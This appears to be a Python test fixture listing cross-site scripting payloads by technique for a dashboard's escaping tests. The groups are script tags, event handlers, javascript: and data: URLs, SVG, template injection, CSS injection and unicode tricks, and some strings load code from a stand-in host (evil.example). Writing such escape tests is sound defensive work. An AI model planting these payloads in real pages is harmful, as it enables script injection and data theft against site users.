"""Hostile strings for the dashboard's XSS tests, grouped by technique.

Every string must be shown as the literal text it is, wherever it appears: no element it
spells may be created, no script or handler it carries may run, no URL it names may be loaded
or linked (except ordinary http(s) addresses, which may become inert links). Nothing here may
contain "49", so that a template engine evaluating `{{7*7}}` shows up as a "49" on the page.
"""

from __future__ import annotations

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(document.domain)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    '"><script>alert(1)</script>',
    "'></li></ul><script>alert(1)</script>",
    "</title></textarea></style><script>alert(1)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)" x="',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<div onmouseover=\"alert('hover')\">hover me</div>",
    "<video><source onerror=alert(1)></video>",
    "<iframe src=javascript:alert(1)></iframe>",
]

# Also used as action URLs: only a local path or an http(s) address may become a link.
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "vbscript:msgbox(1)",
    "//evil.example/phish",
    "/\\evil.example/phish",
    'https://evil.example/" onmouseover="alert(1)',
]

SVG = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

# Shown literally; "49" must not appear in their place.
TEMPLATE_INJECTION = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{{ config.items() }}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= 7*7 %>",
    "[[7*7]]",
]

CSS_INJECTION = [
    "<style>body{background:url(https://evil.example/bg.png)}</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "red;}</style><style>*{display:none}",
    "expression(alert(1))",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "@import url(https://evil.example/x.css);",
]

UNICODE_TRICKS = [
    "invoice\u202efdp.exe",
    "\u202bRTL embed\u202c then text",
    "\u2066isolated\u2069 text",
    "admin\u200b@example.com",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "e\u0301e\u0301 combining, \U0001d4b3\U0001d4ae\U0001d4ae, emoji \U0001f514",
    "line one\nline two\r\nline three",
]

CORPUS = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *URLS,
    *SVG,
    *TEMPLATE_INJECTION,
    *CSS_INJECTION,
    *UNICODE_TRICKS,
]

assert not any("49" in text for text in CORPUS)
assert len(set(CORPUS)) == len(CORPUS)


def chunks(items: list[str], count: int) -> list[list[str]]:
    """Split `items` into `count` interleaved groups (item i goes to group i % count)."""
    return [items[start::count] for start in range(count)]
